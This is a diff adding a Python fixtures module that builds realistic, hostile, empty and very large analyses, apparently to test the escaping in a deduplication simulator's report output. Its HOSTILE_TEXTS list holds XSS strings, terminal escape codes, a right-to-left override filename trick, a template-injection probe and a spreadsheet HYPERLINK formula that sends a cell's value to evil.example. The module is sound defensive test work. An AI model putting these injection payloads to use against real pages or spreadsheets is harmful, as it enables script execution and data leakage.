@@ -1,0 +1,201 @@
+"""Analyses to report on: a plausible one, a hostile one, an empty one, and one as large as they come.
+
+Their figures agree with one another: each duplicate has a need in W and a need in E, a setting misses those whose needs
+are both above it, and all else is counted from that.
+"""
+
+from __future__ import annotations
+
+import random
+from bisect import bisect_right
+from dataclasses import replace
+
+from receiver.simulate.figures import (
+    Analysis,
+    DomainFigures,
+    Finding,
+    Headroom,
+    Histogram,
+    LogFigures,
+    Recommendation,
+    SettingFigures,
+    SourceFigures,
+    Timeline,
+)
+
+START_US = 1_767_225_600_000_000  # 2026-01-01T00:00:00Z
+SECOND_US = 1_000_000
+WINDOWS = (0, 10, 100, 500, 2_000, 20_000)
+EXPIRIES_US = tuple(round(secs * SECOND_US) for secs in (0, 0.5, 5, 30, 120, 600))
+
+HOSTILE_TEXTS = (
+    "<script>alert('id')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</script><script>alert(2)</script><!-- <script>",
+    "line one\nline two\r\nthree\u2028four",
+    "nul\0byte and \x1b[31mred\x1b[0m \x9b1m and \x07",
+    "\u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd \u200f",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "[bold red]markup[/] :smile: [link=http://evil.example]x[/link] {{ 7*7 }} {% raw %}",
+    "long " + "x" * 65_536,
+    "wide \u6f22\u5b57 e\u0301 \U0001f600",
+    "",
+)
+
+
+def powers(values: list[int], base: float = 2) -> Histogram:
+    """Counts between edges that grow as powers, as far as the largest value."""
+    edges = [0, 1]
+    while edges[-1] <= max(values, default=0):
+        edges.append(max(edges[-1] + 1, round(edges[-1] * base)))
+    counts = [0] * (len(edges) - 1)
+    for value in values:
+        counts[bisect_right(edges, value) - 1] += 1
+    return Histogram(tuple(edges), tuple(counts))
+
+
+def settings_of(
+    needs: list[tuple[int, int]], receipts: int, windows: tuple[int, ...], expiries_us: tuple[int, ...]
+) -> tuple[SettingFigures, ...]:
+    return tuple(
+        setting_of(needs, receipts, window, expiry_us)
+        for window in windows
+        for expiry_us in expiries_us
+        if window or expiry_us
+    )
+
+
+def setting_of(needs: list[tuple[int, int]], receipts: int, window: int, expiry_us: int) -> SettingFigures:
+    missed = sum(window < needs_w and expiry_us < needs_e for needs_w, needs_e in needs)
+    peak_ids = min(receipts - len(needs), window * 15 + expiry_us * 700 // SECOND_US)
+    return SettingFigures(window, expiry_us, len(needs) - missed, missed, peak_ids)
+
+
+def realistic(
+    *, windows: tuple[int, ...] = WINDOWS, expiries_us: tuple[int, ...] = EXPIRIES_US, seed: int = 1
+) -> Analysis:
+    """Five minutes of two queues, with crashes of senders that repeat their last hundred messages."""
+    rng = random.Random(seed)  # noqa: S311
+    needs = [(round(rng.lognormvariate(3, 0.7)) + 1, round(rng.lognormvariate(14, 0.8)) + 1) for _ in range(941)]
+    shares = {"queue://orders": (180_000, needs[:700]), "queue://payments": (35_293, needs[700:])}
+    receipts = sum(share for share, _ in shares.values())
+    slices = [rng.randrange(2_900, 3_100) for _ in range(72)]
+    best = setting_of(needs, receipts, 200, 5 * SECOND_US)
+    return Analysis(
+        key="destination",
+        log=LogFigures(
+            receipts=receipts,
+            unchecked=12,
+            skipped=3,
+            duplicates=len(needs),
+            domains=2,
+            sources=15,
+            first_received_at_us=START_US,
+            last_received_at_us=START_US + 303_250_000,
+            clock_clamped=4,
+            redelivered=268,
+            max_delivery_secs=2.25,
+        ),
+        settings=settings_of(needs, receipts, windows, expiries_us),
+        domains=tuple(
+            DomainFigures(
+                name, share, len(own), 12 if "orders" in name else 3, settings_of(own, share, windows, expiries_us)
+            )
+            for name, (share, own) in shares.items()
+        ),
+        recommendation=Recommendation(
+            best,
+            memory_bytes=best.peak_ids * 256,
+            database_bytes=best.peak_ids * 160,
+            margin=2.0,
+            why="The duplicates of this log need W = 97 or E = 2.4 s; twice that much is the cheapest setting that misses "
+            "none of them, with room for an incident twice as bad.",
+        ),
+        findings=(
+            Finding(
+                "crosses-connections",
+                "475 of 941 duplicates came over another connection than the message they repeat. The default domain "
+                "would take them for new messages: let both connections share a domain, as --domain destination does.",
+            ),
+            Finding(
+                "redelivered-flag",
+                "JMSRedelivered marks 198 of the 941 duplicates, and 70 receipts that repeat nothing.",
+            ),
+        ),
+        sources=tuple(
+            SourceFigures(
+                domain="queue://orders",
+                source=f"gateway-{number}.eu:51001:S0{number}",
+                receipts=15_000 - 7 * number,
+                duplicates=60 - number,
+                window_need=97 - 6 * number,
+                expiry_need_us=2_400_000 - 170_000 * number,
+                window_left=103 + 6 * number,
+                expiry_left_us=None if number % 3 else 2_600_000,
+            )
+            for number in range(12)
+        ),
+        window_needs=powers([w for w, _ in needs]),
+        expiry_needs_us=powers([e for _, e in needs], base=1.5),
+        headroom=Headroom(
+            caught_by_source=900,
+            caught_by_time=41,
+            window_left=powers([200 - min(199, w) for w, _ in needs[:900]]),
+            expiry_left_us=powers([5_000_000 - min(4_900_000, e) for _, e in needs[900:]], base=1.5),
+            least_window_left=3,
+            least_expiry_left_us=1_250_000,
+        ),
+        timeline=Timeline(
+            START_US, 4_211_806, tuple(slices), tuple(rng.randrange(60) if i % 7 == 3 else 0 for i in range(72))
+        ),
+        bytes_per_id=256,
+    )
+
+
+def hostile() -> Analysis:
+    """The realistic one with every text of the log replaced by one that does harm where it isn't escaped."""
+    analysis = realistic()
+    domain = analysis.domains[0]
+    source = analysis.sources[0]
+    return replace(
+        analysis,
+        key="name:" + HOSTILE_TEXTS[0],
+        domains=tuple(replace(domain, domain=text) for text in sorted(HOSTILE_TEXTS)),
+        sources=tuple(replace(source, domain=text, source=text) for text in HOSTILE_TEXTS),
+        findings=tuple(Finding("id-reuse", f"the id {text} is used twice") for text in HOSTILE_TEXTS),
+        recommendation=replace(analysis.recommendation, why=" and ".join(HOSTILE_TEXTS)),
+    )
+
+
+def empty() -> Analysis:
+    """A log with no receipt that could be a duplicate."""
+    analysis = realistic()
+    nothing = LogFigures(0, 0, 0, 0, 0, 0, None, None, 0, 0, 0.0)
+    return replace(
+        analysis,
+        log=nothing,
+        settings=settings_of([], 0, WINDOWS, EXPIRIES_US),
+        domains=(),
+        recommendation=None,
+        findings=(),
+        sources=(),
+        window_needs=Histogram((), ()),
+        expiry_needs_us=Histogram((), ()),
+        headroom=None,
+        timeline=None,
+    )
+
+
+def large() -> Analysis:
+    """10,000 settings, 3,000 domains, recommended off the grid."""
+    windows = tuple(round(10 * 1.09**i) + i for i in range(100))
+    expiries_us = tuple(round(100_000 * 1.1**i) for i in range(100))
+    analysis = realistic(windows=windows, expiries_us=expiries_us)
+    few = analysis.domains[0].settings[:4]
+    return replace(
+        analysis,
+        log=replace(analysis.log, domains=3_000),
+        domains=tuple(
+            DomainFigures(f"bridge-1:queue://orders-{number:04}", 70, number % 50, 1, few) for number in range(3_000)
+        ),
+    )
